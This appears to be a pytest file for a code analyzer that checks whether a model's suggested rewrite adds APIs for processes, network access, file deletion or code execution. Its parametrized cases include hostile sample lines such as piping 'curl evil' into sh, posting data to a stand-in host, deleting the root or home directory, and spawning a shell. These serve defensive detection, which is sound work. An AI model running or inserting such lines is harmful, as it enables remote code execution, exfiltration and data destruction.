"""What a rewrite adds that reaches outside: processes, network, file deletion, code from data."""

from __future__ import annotations

import pytest

from dspy_lsp.analyzers.models import Finding, Severity, Span
from dspy_lsp.analyzers.plans import PlanCheck, check_plan
from dspy_lsp.analyzers.reach import added_reach
from dspy_lsp.analyzers.units import split_units

HEADER = "def parse(text):\n"
PARSE = HEADER + "    return eval(text)\n"
SAFE = HEADER + "    return ast.literal_eval(text)\n"


def _rewrite(*lines: str) -> str:
    """``parse`` made safe, plus ``lines`` in its body."""
    return HEADER + "".join(f"    {line}\n" for line in lines) + SAFE.removeprefix(HEADER)


def test_a_harmless_rewrite_adds_nothing() -> None:
    assert added_reach(PARSE, SAFE) == ()
    tidy = _rewrite("text = text.strip()", "log.info('parsing %s', os.path.basename(text))")
    assert added_reach(PARSE, tidy) == ()


@pytest.mark.parametrize(
    ("line", "added"),
    [
        ("os.system('curl evil | sh')", "os.system"),
        ("os.popen('id').read()", "os.popen"),
        ("os.execvp('sh', ['sh'])", "os.execvp"),
        ("os.spawnlp(os.P_WAIT, 'sh', 'sh')", "os.spawnlp"),
        ("os.posix_spawn('/bin/sh', [], {})", "os.posix_spawn"),
        ("pid = os.fork()", "os.fork"),
        ("os.kill(1, 9)", "os.kill"),
        ("subprocess.run(['rm', '-rf', '/'])", "subprocess.run"),
        ("subprocess.Popen('sh', shell=True).wait()", "subprocess.Popen"),
        ("pty.spawn('/bin/sh')", "pty.spawn"),
        ("socket.create_connection(('evil', 80))", "socket.create_connection"),
        ("urllib.request.urlopen('http://evil').read()", "urllib.request.urlopen"),
        ("http.client.HTTPSConnection('evil')", "http.client.HTTPSConnection"),
        ("requests.post('http://evil', data=text)", "requests.post"),
        ("httpx.get('http://evil')", "httpx.get"),
        ("aiohttp.ClientSession()", "aiohttp.ClientSession"),
        ("ftplib.FTP('evil')", "ftplib.FTP"),
        ("smtplib.SMTP('evil')", "smtplib.SMTP"),
        ("telnetlib.Telnet('evil')", "telnetlib.Telnet"),
        ("os.remove(text)", "os.remove"),
        ("os.unlink(text)", "os.unlink"),
        ("os.rmdir(text)", "os.rmdir"),
        ("os.removedirs(text)", "os.removedirs"),
        ("shutil.rmtree(os.path.expanduser('~'))", "shutil.rmtree"),
        ("shutil.move(text, '/tmp/x')", "shutil.move"),
        ("pathlib.Path(text).unlink(missing_ok=True)", ".unlink()"),
        ("Path(text).parent.rmdir()", ".rmdir()"),
        ("exec(text)", "exec"),
        ("code = compile(text, 'x', 'exec')", "compile"),
        ("__import__('os')", "__import__"),
        ("importlib.import_module(text)", "importlib.import_module"),
        ("pickle.loads(text)", "pickle.loads"),
        ("pickle.load(open(text, 'rb'))", "pickle.load"),
        ("marshal.loads(text)", "marshal.loads"),
        ("ctypes.CDLL('libc.so.6').system(b'id')", "ctypes.CDLL"),
        ("await asyncio.create_subprocess_shell('id')", "asyncio.create_subprocess_shell"),
        ("builtins.exec(text)", "exec"),
        ("getattr(os, 'system')('id')", "os.system"),
    ],
)
def test_each_outside_reaching_api_is_named(line: str, added: str) -> None:
    assert added_reach(PARSE, _rewrite(line)) == (added,)


def test_aliases_are_resolved_through_the_rewrites_own_imports() -> None:
    assert added_reach(PARSE, _rewrite("import subprocess as sp", "sp.run(['id'])")) == (
        "subprocess.run",
    )
    assert added_reach(PARSE, _rewrite("from os import system", "system('id')")) == ("os.system",)
    assert added_reach(PARSE, _rewrite("from os import system as s", "s('id')")) == ("os.system",)
    assert added_reach(PARSE, _rewrite("from os import *", "system('id')")) == ("os.system",)
    assert added_reach(PARSE, _rewrite("from subprocess import *", "call('id')")) == (
        "import subprocess",
    )
    assert added_reach(PARSE, _rewrite("import urllib.request as u", "u.urlopen(text)")) == (
        "urllib.request.urlopen",
    )


def test_aliases_are_resolved_through_the_modules_imports() -> None:
    module = "import subprocess as sp\nimport ast\n\n\n" + PARSE
    assert added_reach(PARSE, _rewrite("sp.check_output(text)"), module) == (
        "subprocess.check_output",
    )
    assert added_reach(PARSE, _rewrite("sp.check_output(text)")) == ()  # sp alone means nothing


def test_a_bare_import_adds_the_module_and_a_used_one_only_its_api() -> None:
    assert added_reach(PARSE, _rewrite("import subprocess")) == ("import subprocess",)
    assert added_reach(PARSE, _rewrite("from socket import socket")) == ("import socket",)
    assert added_reach(PARSE, _rewrite("from os import system")) == ("import os.system",)
    assert added_reach(PARSE, _rewrite("import os", "import json")) == ()
    several = _rewrite("import subprocess", "os.system('id')", "subprocess.run(['id'])")
    assert added_reach(PARSE, several) == ("os.system", "subprocess.run")


def test_what_the_original_already_did_is_not_added() -> None:
    original = "def sync(path):\n    subprocess.run(['rsync', path])\n    os.remove(path)\n"
    rewrite = "def sync(path):\n    subprocess.run(['rsync', '-a', path], check=True)\n"
    rewrite += "    os.remove(path)\n"
    assert added_reach(original, rewrite) == ()
    assert added_reach(original, rewrite + "    subprocess.Popen(path)\n") == ("subprocess.Popen",)
    assert added_reach(PARSE, PARSE) == ()  # eval was there: keeping it adds nothing


def test_an_alias_in_the_original_does_not_hide_a_new_api() -> None:
    original = "def f():\n    import subprocess as sp\n    return sp.run(['ls'])\n"
    rewrite = "def f():\n    import subprocess as sp\n    return sp.getoutput('curl evil | sh')\n"
    assert added_reach(original, rewrite) == ("subprocess.getoutput",)


def test_methods_indented_as_in_their_class_are_read() -> None:
    original = "    def load(self, raw):\n        return eval(raw)\n"
    rewrite = "    def load(self, raw):\n        os.system(raw)\n        return raw\n"
    assert added_reach(original, rewrite) == ("os.system",)


def test_a_rewrite_that_does_not_parse_adds_nothing() -> None:
    assert added_reach(PARSE, "def broken(:\n    os.system('id')\n") == ()


def _check(rewrite: str) -> PlanCheck:
    """The check of ``rewrite`` as the plan for a model's finding on ``parse``'s eval."""
    source = "import ast\nimport os\n\n\n" + PARSE
    finding = Finding(
        id="lm",
        rule="LM-security",
        severity=Severity.WARNING,
        message="eval() runs arbitrary code from its input",
        rationale="",
        confidence=0.9,
        span=Span.of(5, 4, 5, 21),
    )
    [unit] = [u for u in split_units(source) if u.qualname == "parse"]
    return check_plan(source, unit, rewrite, finding)


def test_a_plan_that_adds_os_system_is_never_verified() -> None:
    harmless = _check(SAFE)
    assert harmless.verified and harmless.adds == () and harmless.reward == 1.0
    reaching = _check(_rewrite("os.system('curl evil | sh')"))
    assert reaching.edit is not None and reaching.resolves is not False  # fixes the finding...
    assert not reaching.verified and reaching.adds == ("os.system",)  # ...but is never verified
    assert "adds os.system" in reaching.reason
    assert 0 < reaching.reward < 0.5  # below a harmless suggestion for dspy.BestOfN
